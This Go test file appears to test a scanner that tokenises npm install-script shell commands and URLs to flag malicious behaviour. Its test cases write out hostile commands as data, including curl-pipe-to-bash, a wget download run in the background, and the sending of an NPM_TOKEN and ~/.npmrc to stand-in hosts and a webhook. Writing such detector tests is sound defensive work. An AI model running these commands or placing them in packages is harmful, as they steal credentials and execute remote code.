package scan

import (
	"slices"
	"strings"
	"testing"
)

func TestAnalyzeShell(t *testing.T) {
	tests := []struct {
		cmd    string
		tokens string
		runs   []string
		inline []string
	}{
		{"node-gyp rebuild", "", nil, nil},
		{"prebuild-install || node-gyp rebuild --release", "", nil, nil},
		{"node setup.js", "", []string{"setup.js"}, nil},
		{"node --max-old-space-size=100 -r ./hook ./dist/post.js arg", "", []string{"./dist/post.js"}, nil},
		{`node -e "require('./x')"`, "install.node_eval", nil, []string{"require('./x')"}},
		{"curl -s https://a.invalid/x.sh | bash", "url shell.script net.call shell.download_exec process.download_exec shell.script process.call", nil, nil},
		{"wget -q -O /tmp/p http://192.0.2.1/p && chmod +x /tmp/p && /tmp/p &",
			"url url.ip shell.script net.call shell.script shell.download_exec process.download_exec process.call shell.download_exec process.download_exec process.detached", nil, nil},
		{`sh -c 'curl https://hooks.slack.com/services/x -d "$NPM_TOKEN"'`,
			"shell.script process.call url url.webhook env.read.secret shell.script net.call", nil, nil},
		{"bash ./scripts/install.sh", "shell.script process.call", []string{"./scripts/install.sh"}, nil},
		{"python3 -c 'import os'", "process.call", nil, []string{"import os"}},
		{"env | base64 -d", "env.read.all shell.script encoding.call", nil, nil},
		{"cat ~/.npmrc > /dev/tcp/192.0.2.5/80", "sensitive.path shell.script net.call", nil, nil},
		{"nohup node bg.js # comment | sh", "process.detached", []string{"bg.js"}, nil},
		{"FOO=$HOME npm run build && yarn lint", "env.read", nil, nil},
		{"echo 'a | sh' \"b\\\" c\" 2>&1", "", nil, nil},
		{"crontab -l", "persistence", nil, nil},
		{"", "", nil, nil},
		{"'unterminated", "", nil, nil},
	}
	for _, tt := range tests {
		f := analyzeShell(tt.cmd)
		if got := strings.Join(f.tokens, " "); got != tt.tokens {
			t.Errorf("%q: tokens %q, want %q", tt.cmd, got, tt.tokens)
		}
		if !slices.Equal(f.runs, tt.runs) {
			t.Errorf("%q: runs %q, want %q", tt.cmd, f.runs, tt.runs)
		}
		var inl []string
		for _, c := range f.inline {
			inl = append(inl, c.code)
		}
		if !slices.Equal(inl, tt.inline) {
			t.Errorf("%q: inline %q, want %q", tt.cmd, inl, tt.inline)
		}
	}
	if f := analyzeShell("npm run a; yarn b; pnpm run c; yarn install"); !slices.Equal(f.npmRun, []string{"a", "b", "c"}) {
		t.Errorf("npmRun %v", f.npmRun)
	}
}

func TestURLTokens(t *testing.T) {
	for raw, want := range map[string]string{
		"https://example.invalid/x":                 "url",
		"http://192.0.2.1:8080/x":                   "url url.ip",
		"http://[2001:db8::1]/":                     "url url.ip",
		"https://discord.com/api/webhooks/1/2":      "url url.webhook",
		"https://abc.ngrok-free.app":                "url url.tunnel",
		"https://api.telegram.org/bot1/sendMessage": "url url.telegram",
		"https://pastebin.com/raw/x":                "url url.paste",
		"http://%zz":                                "url",
	} {
		if got := strings.Join(urlTokens(raw), " "); got != want {
			t.Errorf("urlTokens(%q) = %q, want %q", raw, got, want)
		}
	}
}

func FuzzAnalyzeShell(f *testing.F) {
	for _, s := range []string{
		"curl -s https://a.invalid/x.sh | bash", `node -e "eval(1)"`, "sh -c 'sh -c \"sh -c x\"'",
		"a && b || c; d & e | f $(g) `h`", "echo \\\n x", "'", `"\`, "x=1 y=$Z env nohup sudo",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		facts := analyzeShell(cmd)
		for _, tok := range facts.tokens {
			if tok == "" || strings.ToLower(tok) != tok {
				t.Fatalf("bad token %q", tok)
			}
		}
		if len(facts.tokens) > 64*len(cmd)+64 {
			t.Fatalf("%d tokens from %d bytes", len(facts.tokens), len(cmd))
		}
	})
}
